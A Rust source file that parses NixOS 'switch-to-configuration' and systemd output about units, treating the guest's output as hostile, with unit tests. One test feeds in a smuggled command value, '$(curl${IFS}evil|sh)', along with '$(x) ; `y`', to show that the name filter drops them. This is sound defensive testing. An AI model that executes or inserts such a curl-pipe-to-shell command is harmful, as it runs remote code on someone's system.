//! What a guest's systemd and NixOS's `switch-to-configuration` say of units. The guest is hostile: what is no unit's
//! name is not taken for one.

use crate::model::observe::UnitChange;

/// More units than this help nobody.
pub(crate) const MOST_UNITS: usize = 64;

/// More units than this are not compared with each other.
pub(crate) const MOST_LISTED: usize = 4096;

/// What a line says about units, as NixOS's `switch-to-configuration` says it (both the one in Perl and the one in
/// Rust): `restarting the following units: a.service, b.service`.
pub(crate) fn changed(line: &str) -> Option<(UnitChange, Vec<String>)> {
    const FORMS: [(&str, UnitChange); 8] = [
        ("stopping the following units:", UnitChange::Stopping),
        ("starting the following units:", UnitChange::Starting),
        ("NOT restarting the following changed units:", UnitChange::Kept),
        ("NOT restarting the following units:", UnitChange::Kept),
        ("restarting the following units:", UnitChange::Restarting),
        ("reloading the following units:", UnitChange::Reloading),
        ("the following new units were started:", UnitChange::Started),
        ("warning: the following units failed:", UnitChange::Failed),
    ];
    let line = line.trim();
    let (names, change) =
        FORMS.iter().find_map(|(words, change)| line.strip_prefix(words).map(|names| (names, *change)))?;
    named(names).map(|names| (change, names))
}

/// What a line says that `switch-to-configuration dry-activate` would do to units: `would restart the following units: a.service`.
/// What an activation script asks for beside is said of units `as well`. Units of users are left out, as those of a switch are.
pub(crate) fn foreseen(line: &str) -> Option<(UnitChange, Vec<String>)> {
    let (verb, rest) = line.trim().strip_prefix("would ")?.split_once(" the following ")?;
    let (which, names) = rest.split_once(':')?;
    let which = which.strip_suffix(" as well").unwrap_or(which);
    if !["units", "changed units"].contains(&which) {
        return None;
    }
    let change = match verb {
        "stop" => UnitChange::Stopping,
        "start" => UnitChange::Starting,
        "restart" => UnitChange::Restarting,
        "reload" => UnitChange::Reloading,
        "NOT restart" | "NOT stop" => UnitChange::Kept,
        _ => return None,
    };
    named(names).map(|names| (change, names))
}

/// The units of a list, if there are any.
fn named(names: &str) -> Option<Vec<String>> {
    let names: Vec<String> =
        names.split([',', ' ']).filter(|name| is_unit(name)).take(MOST_LISTED).map(str::to_owned).collect();
    (!names.is_empty()).then_some(names)
}

/// systemd's word for the state of the whole system, where the line is one.
pub(crate) fn state(line: &str) -> Option<&'static str> {
    const STATES: [&str; 8] =
        ["initializing", "starting", "running", "degraded", "maintenance", "stopping", "offline", "unknown"];
    STATES.into_iter().find(|state| *state == line.trim())
}

/// The unit of a line of `systemctl list-units`. Some versions put a mark before it.
pub(crate) fn listed(line: &str) -> Option<String> {
    line.split_whitespace().find(|word| is_unit(word)).map(str::to_owned)
}

/// As many as are shown and kept.
pub(crate) fn cut(mut names: Vec<String>) -> Vec<String> {
    names.truncate(MOST_UNITS);
    names
}

/// What systemd lets a unit be called. The name goes into a hint that people copy.
fn is_unit(name: &str) -> bool {
    let fits = |byte: u8| byte.is_ascii_alphanumeric() || b":_.@\\-".contains(&byte);
    !name.is_empty() && name.len() <= 255 && !name.starts_with('-') && name.bytes().all(fits)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn units_are_read_as_nixos_names_them() {
        let read =
            |line| changed(line).map(|(change, names)| format!("{}: {}", change.words(), names.join(" ")));
        let is = |line, wanted: &str| assert_eq!(read(line).as_deref(), Some(wanted), "{line}");
        is("stopping the following units: a.service, b.timer", "stopping: a.service b.timer");
        is("starting the following units: a.service", "starting: a.service");
        is("restarting the following units: a.service", "restarting: a.service");
        is("NOT restarting the following changed units: a.service", "not restarting: a.service");
        is("reloading the following units: dbus.service", "reloading: dbus.service");
        is("the following new units were started: a.mount", "started: a.mount");
        is("warning: the following units failed: web.service, db.service", "failed: web.service db.service");
        assert_eq!(read("activating the configuration..."), None);
        assert_eq!(read("starting the following units: "), None);
    }

    #[test]
    fn units_are_foreseen_as_nixos_names_them() {
        let read =
            |line| foreseen(line).map(|(change, names)| format!("{}: {}", change.words(), names.join(" ")));
        let is = |line, wanted: &str| assert_eq!(read(line).as_deref(), Some(wanted), "{line}");
        is("would stop the following units: a.service, b.timer", "stopping: a.service b.timer");
        is("would NOT restart the following changed units: a.service", "not restarting: a.service");
        is("would NOT stop the following changed units: a.service", "not restarting: a.service");
        is("would restart the following units: a.service", "restarting: a.service");
        is("would reload the following units: dbus.service", "reloading: dbus.service");
        is("would start the following units: a.service", "starting: a.service");
        is("would stop the following units as well: b.service", "stopping: b.service");
        is("would NOT restart the following changed units as well: b.service", "not restarting: b.service");
        for other in [
            "would activate the configuration...",
            "would restart systemd",
            "would restart the following user units: a.service",
            "would eat the following units: a.service",
            "restarting the following units: a.service",
            "would stop the following units: ",
        ] {
            assert_eq!(read(other), None, "{other}");
        }
    }

    #[test]
    fn a_hostile_guest_names_only_what_systemd_allows() {
        let (_, names) =
            changed("warning: the following units failed: x;$(curl${IFS}evil|sh) -rf a@b.service").unwrap();
        assert_eq!(names, ["a@b.service"]);
        let many = format!("starting the following units: {}", "a.service, ".repeat(1000));
        assert_eq!(cut(changed(&many).unwrap().1).len(), MOST_UNITS);
    }

    #[test]
    fn a_state_is_one_of_systemds_words() {
        assert_eq!(state("degraded"), Some("degraded"));
        for line in ["", "fine", "running now", "Failed to connect to bus: running"] {
            assert_eq!(state(line), None, "{line}");
        }
    }

    #[test]
    fn listed_units_are_read_with_and_without_their_mark() {
        let is = |line, wanted| assert_eq!(listed(line).as_deref(), wanted, "{line}");
        is("a.service loaded failed failed Something that fails", Some("a.service"));
        is("\u{25cf} b@1.mount loaded failed failed B", Some("b@1.mount"));
        is("", None);
        is("$(x) ; `y`", None);
    }
}
